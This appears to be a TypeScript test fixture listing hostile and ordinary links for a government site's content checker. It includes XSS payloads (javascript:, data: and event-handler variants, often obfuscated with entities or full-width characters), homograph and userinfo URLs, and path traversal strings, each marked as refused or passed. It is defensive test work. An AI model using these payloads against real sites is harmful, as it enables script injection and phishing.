// An outside tester's table of link and markup tricks, and of the ordinary links an office really
// writes, each with what must happen to it. links-adversarial.test.ts puts every row through the
// real content check (on a copy of the minimal fixture) and every body through the site's Markdown
// pipeline. Places:
//   body      Markdown appended to a service guide's body (content/services/S-001.md)
//   url       the guide's 网办地址 (onlineUrl), a URL field
//   siteUrl   site.yaml's 网站地址
//   text      the guide's 办理地点 (place), a free-text field: published as escaped text, never a link
//   file      a consultation draft's 附件 path (content/consultations/ZQ-001.md)
export type Place = 'body' | 'url' | 'siteUrl' | 'text' | 'file';

export interface LinkRow {
  /** What the tester tried, in their words. */
  name: string;
  place: Place;
  value: string;
  /** refused: the check stops the build naming the file, the line and the field; passes: published as written. */
  verdict: 'refused' | 'passes';
}

const ZW = '\u200b';

/** Addresses that must never become a live link, each tried as a Markdown link in a body. */
const hostile: [name: string, address: string][] = [
  ['javascript: lower case', 'javascript:alert(1)'],
  ['JAVASCRIPT: upper case', 'JAVASCRIPT:alert(1)'],
  ['JaVaScRiPt: mixed case', 'JaVaScRiPt:alert(document.cookie)'],
  ['javascript: with a comment payload', 'javascript://comment%0Aalert(1)'],
  ['vbscript:', 'vbscript:msgbox(1)'],
  ['VBScript: mixed case', 'VBScript:msgbox(1)'],
  ['data: text/html base64', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
  ['DATA: upper case', 'DATA:text/html,<script>alert(1)</script>'],
  ['data: SVG image', 'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'],
  ['file: unix', 'file:///etc/passwd'],
  ['FILE: windows drive', 'FILE:///C:/Windows/win.ini'],
  ['ftp:', 'ftp://ftp.example.gov.cn/a.pdf'],
  ['irc: (GitHub’s sanitiser allows it)', 'irc://irc.example.org/chan'],
  ['xmpp: (GitHub’s sanitiser allows it)', 'xmpp:evil@example.org'],
  ['sms:', 'sms:10086?body=hi'],
  ['blob:', 'blob:https://evil.example/1234'],
  ['entity &#106;avascript:', '&#106;avascript:alert(1)'],
  ['entity &colon;', 'javascript&colon;alert(1)'],
  ['hex entities for the whole word', '&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)'],
  ['entity tab inside the scheme', 'java&#x09;script:alert(1)'],
  ['entity newline inside the scheme', 'java&#10;script:alert(1)'],
  ['entity zero-width space inside the scheme', 'java&#x200B;script:alert(1)'],
  ['percent-encoded tab inside the scheme', 'java%09script:alert(1)'],
  ['percent-encoded colon', 'javascript%3Aalert(1)'],
  ['percent-encoded first letter', '%6Aavascript:alert(1)'],
  ['percent-encoded zero-width space', 'java%E2%80%8Bscript:alert(1)'],
  ['full-width letters and colon', 'ｊａｖａｓｃｒｉｐｔ：alert(1)'],
  ['full-width letters, ASCII colon', 'ｊａｖａｓｃｒｉｐｔ:alert(1)'],
  ['ASCII letters, full-width colon', 'javascript：alert(1)'],
  ['full-width slashes //', '／／evil.example/x'],
  ['protocol-relative //', '//evil.example/x'],
  ['protocol-relative ///', '///evil.example/x'],
  ['backslashes \\\\host', '\\\\evil.example\\share'],
  ['http:\\\\host', 'http:\\\\evil.example'],
  ['https:/\\host', 'https:/\\evil.example'],
  ['/\\host (path-looking)', '/\\evil.example'],
  ['userinfo https://www.gov.cn@evil', 'https://www.gov.cn@evil.example/'],
  ['userinfo with password', 'https://admin:123456@www.example.gov.cn/'],
  ['Cyrillic о in gov', 'https://www.gоv.cn/'],
  ['Greek ο in gov', 'https://www.gοv.cn/'],
  ['punycode of the Cyrillic look-alike', 'https://www.xn--gv-jmc.cn/'],
  ['full-width letters in the host', 'https://ｗｗｗ.gov.cn/'],
  ['full-width dot in the host', 'https://www。gov。cn/'],
  ['gov.cn in the middle of another domain', 'https://www.gov.cn.evil.example/'],
  ['gov.cn in the middle, upper case, with a trailing dot', 'https://WWW.GOV.CN.evil.example./'],
  ['host without a dot', 'https://localhost/admin'],
  ['host with a comma and text after it', 'https://www.gov.cn，详见/'],
  ['https:// followed by nothing', 'https://'],
  ['https:/ single slash', 'https:/www.gov.cn'],
  ['https: no slashes', 'https:www.gov.cn'],
  ['mailto: without an address', 'mailto:'],
  ['mailto: with a script-looking address', 'mailto:javascript:alert(1)'],
  ['tel: with letters', 'tel:javascript:alert(1)'],
  ['tel: empty', 'tel:'],
];

/** The same kind of trick written in the other places a body can carry a link. */
const forms: [name: string, markdown: (address: string) => string][] = [
  ['inline link', (a) => `[点此办理](${a})`],
  ['image', (a) => `![图](${a})`],
  ['reference-style link', (a) => `[点此][ref]\n\n[ref]: ${a}`],
  ['raw <a href>', (a) => `<a href="${a}">点此</a>`],
];

const bodyRows: LinkRow[] = [
  ...hostile.map(([name, address]): LinkRow => ({ name: `body link: ${name}`, place: 'body', value: `[点此办理](${address.replace(/\\/g, '\\\\')})`, verdict: 'refused' })),
  // Each form with a handful of schemes.
  ...forms.flatMap(([form, make]) =>
    ['javascript:alert(1)', ' JavaScript:alert(1)', 'data:text/html,<b>x</b>', 'vbscript:msgbox(1)', '//evil.example/', 'https://www.gov.cn@evil.example/'].map(
      (address): LinkRow => ({ name: `${form}: ${JSON.stringify(address)}`, place: 'body', value: make(address), verdict: 'refused' }),
    ),
  ),
  { name: 'autolink <javascript:…>', place: 'body', value: '<javascript:alert(1)>', verdict: 'refused' },
  { name: 'autolink <JAVASCRIPT:…>', place: 'body', value: '<JAVASCRIPT:alert(1)>', verdict: 'refused' },
  { name: 'autolink <data:…>', place: 'body', value: '<data:text/html,hi>', verdict: 'refused' },
  { name: 'autolink <vbscript:…>', place: 'body', value: '<vbscript:msgbox(1)>', verdict: 'refused' },
  { name: 'autolink <file:…>', place: 'body', value: '<file:///etc/passwd>', verdict: 'refused' },
  { name: 'autolink with userinfo', place: 'body', value: '<https://www.gov.cn@evil.example/>', verdict: 'refused' },
  { name: 'bare GFM address with userinfo', place: 'body', value: '详见 https://www.gov.cn@evil.example/ 网站', verdict: 'refused' },
  { name: 'bare GFM address with a look-alike host', place: 'body', value: '详见 https://www.gоv.cn/ 网站', verdict: 'refused' },
  { name: 'javascript: link in a table cell', place: 'body', value: '| 事项 | 链接 |\n| --- | --- |\n| 申请 | [办理](javascript:alert(1)) |', verdict: 'refused' },
  { name: 'raw <a> in a table cell', place: 'body', value: '| 事项 | 链接 |\n| --- | --- |\n| 申请 | <a href="vbscript:msgbox(1)">办理</a> |', verdict: 'refused' },
  { name: 'javascript: link in a footnote', place: 'body', value: '见注释[^1]。\n\n[^1]: 详见[此处](javascript:alert(1))。', verdict: 'refused' },
  { name: 'link in a heading', place: 'body', value: '## [标题](javascript:alert(1))', verdict: 'refused' },
  { name: 'link in a blockquote', place: 'body', value: '> [引用](data:text/html,hi)', verdict: 'refused' },
  { name: 'link in a list item', place: 'body', value: '- 第一项\n- [第二项](vbscript:msgbox(1))', verdict: 'refused' },
  { name: 'link inside emphasis', place: 'body', value: '**[加粗](javascript:alert(1))**', verdict: 'refused' },
  { name: 'image inside a link', place: 'body', value: '[![图](javascript:alert(1))](/services/)', verdict: 'refused' },
  { name: 'link title carrying a quote break-out', place: 'body', value: '[x](//evil.example "\\" onmouseover=\\"alert(1)")', verdict: 'refused' },
  { name: 'link with a zero-width space before the scheme', place: 'body', value: `[x](${ZW}javascript:alert(1))`, verdict: 'refused' },
  { name: 'link with a leading tab (angle brackets)', place: 'body', value: '[x](<\tjavascript:alert(1)>)', verdict: 'refused' },
  { name: 'link with a trailing space (angle brackets)', place: 'body', value: '[x](<javascript:alert(1) >)', verdict: 'refused' },
  { name: 'link with a control character', place: 'body', value: '[x](\u0001javascript:alert(1))', verdict: 'refused' },
  { name: 'link to a page that does not exist', place: 'body', value: '[x](/no-such-page/)', verdict: 'refused' },
  { name: 'relative link climbing out with ../', place: 'body', value: '[x](../../../../etc/passwd)', verdict: 'refused' },
  { name: 'link with a broken percent escape', place: 'body', value: '[x](/services/%E0%A4%A)', verdict: 'refused' },
  // Raw HTML.
  { name: '<script>', place: 'body', value: '<script>alert(1)</script>', verdict: 'refused' },
  { name: '<SCRIPT> upper case with src', place: 'body', value: '<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>', verdict: 'refused' },
  { name: '<script> inside a paragraph', place: 'body', value: '文字<script>alert(1)</script>文字', verdict: 'refused' },
  { name: '<iframe>', place: 'body', value: '<iframe src="https://evil.example/"></iframe>', verdict: 'refused' },
  { name: '<iframe srcdoc>', place: 'body', value: '<iframe srcdoc="<script>alert(1)</script>"></iframe>', verdict: 'refused' },
  { name: '<img onerror>', place: 'body', value: '<img src="x" alt="图" onerror="alert(1)">', verdict: 'refused' },
  { name: '<img onerror> unquoted', place: 'body', value: '<img src=x onerror=alert(1)>', verdict: 'refused' },
  { name: '<img src=javascript:>', place: 'body', value: '<img src="javascript:alert(1)" alt="图">', verdict: 'refused' },
  { name: '<img srcset=javascript:>', place: 'body', value: '<img src="/favicon.svg" srcset="javascript:alert(1) 2x" alt="图">', verdict: 'refused' },
  { name: '<a href=javascript:>', place: 'body', value: '<a href="javascript:alert(1)">点</a>', verdict: 'refused' },
  { name: '<a href> unquoted javascript:', place: 'body', value: '<a href=javascript:alert(1)>点</a>', verdict: 'refused' },
  { name: '<a href> entity-padded &#0000106', place: 'body', value: '<a href="&#0000106avascript:alert(1)">点</a>', verdict: 'refused' },
  { name: '<a href> with an entity newline', place: 'body', value: '<a href="jav&#x0A;ascript:alert(1)">点</a>', verdict: 'refused' },
  { name: '<a href> with leading spaces', place: 'body', value: '<a href="  JAVASCRIPT:alert(1)">点</a>', verdict: 'refused' },
  { name: '<a onclick>', place: 'body', value: '<a href="/services/" onclick="alert(1)">点</a>', verdict: 'refused' },
  { name: '<a target=_blank> (tab-nabbing)', place: 'body', value: '<a href="https://www.gov.cn/" target="_blank">点</a>', verdict: 'refused' },
  { name: '<svg onload>', place: 'body', value: '<svg onload="alert(1)"></svg>', verdict: 'refused' },
  { name: '<svg><a xlink:href>', place: 'body', value: '<svg><a xlink:href="javascript:alert(1)"><text>点</text></a></svg>', verdict: 'refused' },
  { name: '<math> with xlink:href', place: 'body', value: '<math><mi xlink:href="javascript:alert(1)">x</mi></math>', verdict: 'refused' },
  { name: '<style>', place: 'body', value: '<style>body{display:none}</style>', verdict: 'refused' },
  { name: 'style attribute', place: 'body', value: '<p style="position:fixed;top:0">覆盖</p>', verdict: 'refused' },
  { name: 'style with url(javascript:)', place: 'body', value: '<p style="background:url(javascript:alert(1))">样式</p>', verdict: 'refused' },
  { name: '<form action>', place: 'body', value: '<form action="https://evil.example/"><input name="id"></form>', verdict: 'refused' },
  { name: '<button formaction>', place: 'body', value: '<button formaction="javascript:alert(1)">提交</button>', verdict: 'refused' },
  { name: '<meta http-equiv=refresh>', place: 'body', value: '<meta http-equiv="refresh" content="0;url=https://evil.example/">', verdict: 'refused' },
  { name: '<base href>', place: 'body', value: '<base href="https://evil.example/">', verdict: 'refused' },
  { name: '<link rel=stylesheet>', place: 'body', value: '<link rel="stylesheet" href="https://evil.example/x.css">', verdict: 'refused' },
  { name: '<object data>', place: 'body', value: '<object data="data:text/html,<script>alert(1)</script>"></object>', verdict: 'refused' },
  { name: '<embed src>', place: 'body', value: '<embed src="javascript:alert(1)">', verdict: 'refused' },
  { name: '<details ontoggle>', place: 'body', value: '<details open ontoggle="alert(1)"><summary>展开</summary>内容</details>', verdict: 'refused' },
  { name: '<video poster onerror>', place: 'body', value: '<video poster="javascript:alert(1)" onerror="alert(2)"></video>', verdict: 'refused' },
  { name: '<input autofocus onfocus>', place: 'body', value: '<input autofocus onfocus="alert(1)">', verdict: 'refused' },
  { name: '<area href=vbscript:>', place: 'body', value: '<map name="m"><area href="vbscript:msgbox(1)"></map>', verdict: 'refused' },
  { name: '<body onload> (the HTML parser drops a second body: nothing is published)', place: 'body', value: '<body onload="alert(1)">', verdict: 'passes' },
  { name: 'comment trick <!--><script>', place: 'body', value: '<!--><script>alert(1)</script>-->', verdict: 'refused' },
  { name: '<div> with a data- attribute', place: 'body', value: '<div data-x="1">块</div>', verdict: 'refused' },
  { name: 'HTML id clobbering a global', place: 'body', value: '<a href="/services/" id="location">点</a>', verdict: 'passes' },
  { name: '<noscript> wrapper', place: 'body', value: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', verdict: 'refused' },
  { name: '<template> wrapper', place: 'body', value: '<template><script>alert(1)</script></template>', verdict: 'refused' },
];

/** Links an office really writes in a body, which must stay links. */
const ordinaryBody: LinkRow[] = [
  { name: 'central government site', place: 'body', value: '[中国政府网](https://www.gov.cn/)', verdict: 'passes' },
  { name: 'a policy page of gov.cn', place: 'body', value: '[政策文件](https://www.gov.cn/zhengce/content/2019-04/15/content_5382991.htm)', verdict: 'passes' },
  { name: '政务服务网 item with a query string and fragment', place: 'body', value: '[网上办理](https://zwfw.example.gov.cn/item?id=RF-XK-001&from=gongkai#apply)', verdict: 'passes' },
  { name: '政务服务网 with Chinese in the query', place: 'body', value: '[搜索](https://zwfw.example.gov.cn/search?q=人防工程&type=1)', verdict: 'passes' },
  { name: '政务服务网 search with a GBK-encoded query', place: 'body', value: '[检索](https://zwfw.example.gov.cn/search?q=%C8%CB%B7%C0)', verdict: 'passes' },
  { name: 'http (not https) site of another office', place: 'body', value: '[市政府](http://www.example.gov.cn/)', verdict: 'passes' },
  { name: 'Chinese domain name', place: 'body', value: '[政务服务](https://政务服务.中国/事项/人防)', verdict: 'passes' },
  { name: 'a port number', place: 'body', value: '[内网](https://example.gov.cn:8443/path)', verdict: 'passes' },
  { name: 'mailto: of the office', place: 'body', value: '[发邮件](mailto:office@example.gov.cn)', verdict: 'passes' },
  { name: 'mailto: with a subject', place: 'body', value: '[来信](mailto:office@example.gov.cn?subject=信息公开申请)', verdict: 'passes' },
  { name: 'autolink of the office mailbox', place: 'body', value: '<office@example.gov.cn>', verdict: 'passes' },
  { name: 'tel: hotline 12345', place: 'body', value: '[12345 热线](tel:12345)', verdict: 'passes' },
  { name: 'tel: with area code', place: 'body', value: '[咨询电话](tel:0999-12345678)', verdict: 'passes' },
  { name: 'tel: international form', place: 'body', value: '[电话](tel:+86-999-12345678)', verdict: 'passes' },
  { name: 'relative link to a list', place: 'body', value: '[服务指南](/services/)', verdict: 'passes' },
  { name: 'relative link to an entry', place: 'body', value: '[本事项](/services/S-001/)', verdict: 'passes' },
  { name: 'relative link without the trailing slash', place: 'body', value: '[服务指南](/services)', verdict: 'passes' },
  { name: 'attachment of another entry, by its published address', place: 'body', value: '[征求意见稿](/files/consultations/files/zq-001.pdf)', verdict: 'passes' },
  { name: 'a file under content/ that no entry attaches', place: 'body', value: '[文件](/files/consultations/files/other.pdf)', verdict: 'refused' },
  { name: 'attachment address climbing out with ..', place: 'body', value: '[文件](/files/../site.yaml)', verdict: 'refused' },
  { name: 'fragment on the same page', place: 'body', value: '[见下文](#办理流程)', verdict: 'passes' },
  { name: 'autolink of a gov.cn address', place: 'body', value: '<https://www.gov.cn/>', verdict: 'passes' },
  { name: 'bare GFM www. address', place: 'body', value: '详见 www.gov.cn 。', verdict: 'passes' },
  { name: 'reference-style link to gov.cn', place: 'body', value: '[国务院][gwy]\n\n[gwy]: https://www.gov.cn/', verdict: 'passes' },
  { name: '政务服务网 link in a table cell', place: 'body', value: '| 事项 | 链接 |\n| --- | --- |\n| 申请 | [办理](https://zwfw.example.gov.cn/item?id=1) |', verdict: 'passes' },
  { name: 'gov.cn link in a footnote', place: 'body', value: '依据[^1]。\n\n[^1]: 见[中国政府网](https://www.gov.cn/)。', verdict: 'passes' },
  { name: 'everyday HTML: <sup>, <br>, <kbd>', place: 'body', value: '面积 100 m<sup>2</sup><br>按 <kbd>Enter</kbd> 确认', verdict: 'passes' },
  { name: 'raw <a> to a site page', place: 'body', value: '<a href="/services/">服务指南</a>', verdict: 'passes' },
  { name: 'raw <img> with alt', place: 'body', value: '<img src="/favicon.svg" alt="图标">', verdict: 'passes' },
  { name: 'image of an attached file', place: 'body', value: '![标识](/files/files/conac.png)', verdict: 'passes' },
  { name: 'image from another site (the CSP would not load it; a tracking pixel)', place: 'body', value: '![图](https://evil.example/pixel.gif)', verdict: 'refused' },
  { name: 'raw <img> from another site', place: 'body', value: '<img src="http://evil.example/pixel.gif" alt="图">', verdict: 'refused' },
  { name: 'link text showing www.gov.cn that leads elsewhere', place: 'body', value: '[www.gov.cn](https://evil.example/)', verdict: 'refused' },
  { name: 'link text showing https://www.gov.cn/ that leads to gov.cn.evil.example', place: 'body', value: '[https://www.gov.cn/](https://gov.cn.evil.example/)', verdict: 'refused' },
  { name: 'link text naming the very host it leads to', place: 'body', value: '[zwfw.example.gov.cn](https://zwfw.example.gov.cn/item?id=1)', verdict: 'passes' },
  { name: 'link text naming gov.cn for a subdomain of it', place: 'body', value: '[gov.cn 上的政策库](https://www.gov.cn/zhengce/)', verdict: 'passes' },
  { name: 'link to a loopback address', place: 'body', value: '[管理](http://127.0.0.1:8080/admin)', verdict: 'refused' },
  { name: 'link to an intranet address', place: 'body', value: '[内网](http://10.1.2.3/oa/)', verdict: 'refused' },
  { name: 'link to loopback written in hex', place: 'body', value: '[管理](http://0x7f.0.0.1/)', verdict: 'refused' },
  { name: 'link to IPv6 loopback', place: 'body', value: '[管理](http://[::1]/)', verdict: 'refused' },
  { name: 'raw <a> to a page that does not exist', place: 'body', value: '<a href="/no-such-page/">点此</a>', verdict: 'refused' },
  { name: 'raw <img> of a file that is not published', place: 'body', value: '<p>图：<img src="/files/nowhere.png" alt="图"></p>', verdict: 'refused' },
  { name: 'the word javascript: in plain text', place: 'body', value: '请勿点击以 javascript: 开头的链接。', verdict: 'passes' },
  { name: 'HTML shown as code', place: 'body', value: '`<script>alert(1)</script>` 是示例代码', verdict: 'passes' },
];

const urlRows: LinkRow[] = [
  ...[
    'javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', 'javascript:alert(1) ', 'java\tscript:alert(1)', 'java\nscript:alert(1)', `java${ZW}script:alert(1)`,
    '\u0001javascript:alert(1)', '&#106;avascript:alert(1)', 'javascript&colon;alert(1)', 'java%09script:alert(1)', 'ｊａｖａｓｃｒｉｐｔ：alert(1)', 'vbscript:msgbox(1)',
    'data:text/html,hi', 'file:///etc/passwd', '\\\\evil.example\\share', 'http:\\\\evil.example', '//evil.example/', 'https://www.gov.cn@evil.example/',
    'http://192.168.1.10/oa/', 'http://172.20.0.1/', 'https://[fd00::1]/',
    'https://www.gоv.cn/', 'https://www.xn--gv-jmc.cn/', 'https://ｗｗｗ.gov.cn/', 'https://www。gov。cn/', 'mailto:office@example.gov.cn', 'tel:12345', '/services/',
  ].map((value): LinkRow => ({ name: `网办地址 ${JSON.stringify(value)}`, place: 'url', value, verdict: 'refused' })),
  ...['https://zwfw.example.gov.cn/item?id=RF-XK-001&from=gongkai#apply', 'https://zwfw.example.gov.cn/search?q=%C8%CB%B7%C0', 'http://www.example.gov.cn/', 'https://政务服务.中国/事项/人防', 'https://www.xn--fiqs8s.cn/', 'https://WWW.GOV.CN/'].map(
    (value): LinkRow => ({ name: `网办地址 ${value}`, place: 'url', value, verdict: 'passes' }),
  ),
  { name: '网站地址 javascript:', place: 'siteUrl', value: 'javascript:alert(1)', verdict: 'refused' },
  { name: '网站地址 look-alike host', place: 'siteUrl', value: 'https://test.example.gоv.cn', verdict: 'refused' },
  { name: '网站地址 userinfo', place: 'siteUrl', value: 'https://test.example.gov.cn@evil.example', verdict: 'refused' },
  { name: '网站地址 plain http (the site is served over https)', place: 'siteUrl', value: 'http://test.example.gov.cn', verdict: 'refused' },
  { name: '网站地址 in capitals', place: 'siteUrl', value: 'HTTPS://TEST.EXAMPLE.GOV.CN', verdict: 'passes' },
];

/** Free text that carries an address: it is published as escaped text, so it is allowed. */
const textRows: LinkRow[] = [
  'javascript:alert(1)', '<a href="javascript:alert(1)">点此</a>', '[点此办理](javascript:alert(1))', '<script>alert(1)</script>', '<img src=x onerror=alert(1)>',
  'https://www.gov.cn@evil.example/', '政务服务中心（https://zwfw.example.gov.cn/item?id=1）',
].map((value): LinkRow => ({ name: `办理地点 ${JSON.stringify(value)}`, place: 'text', value, verdict: 'passes' }));

const fileRows: LinkRow[] = [
  ...['../../../../etc/passwd', '/etc/passwd', 'files/../../site.yaml', 'files/..%2f..%2fsite.yaml', 'javascript:alert(1)', 'https://evil.example/x.pdf', 'files\\zq-001.pdf', 'C:\\zq-001.pdf', 'files/zq-001.pdf\u0000.txt', '//evil.example/x.pdf', 'files/ｚｑ-001.pdf', 'files/zq-001.pdf.html'].map(
    (value): LinkRow => ({ name: `附件 ${JSON.stringify(value)}`, place: 'file', value, verdict: 'refused' }),
  ),
  { name: '附件 files/zq-001.pdf (as written in the fixture)', place: 'file', value: 'files/zq-001.pdf', verdict: 'passes' },
];

export const rows: LinkRow[] = [...bodyRows, ...ordinaryBody, ...urlRows, ...textRows, ...fileRows];
